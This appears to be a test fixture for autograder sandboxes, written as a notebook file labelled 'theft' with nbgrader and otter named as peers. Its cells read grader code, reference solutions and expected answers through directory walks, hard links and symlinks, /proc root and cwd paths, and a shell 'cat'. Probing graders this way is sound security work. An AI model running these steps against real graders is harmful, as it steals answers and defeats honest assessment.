# tries = "Graders, reference and expected values read from the course folder, by path, by link and through /proc"
# intenta = "Revisores, referencia y valores esperados leídos de la carpeta del curso, por ruta, por enlace y por /proc"
# kind = "theft"
# peers = ["nbgrader", "otter"]

# %%
# [q1-weigh]
for text in everything(COURSE):
    loot(text)
for name in ("graders/vault.py", "reference/vault.py", "reference/expected/vault.json", "course.toml"):
    path = f"{COURSE}/{name}"
    for link in (os.link, os.symlink):
        try:
            link(path, f"{link.__name__}-{os.path.basename(path)}")
        except OSError:
            pass
    for start in ("/proc/self/root", "/proc/1/root", f"/proc/{GRADER}/root", f"/proc/{GRADER}/cwd/../../.."):
        loot(read(start + path))
for text in everything("."):
    loot(text)

# %%
# [q2-count]
answer = get_ipython().getoutput(f"cat {COURSE}/graders/vault.py {COURSE}/reference/expected/vault.json 2>&1")
loot("\n".join(answer))
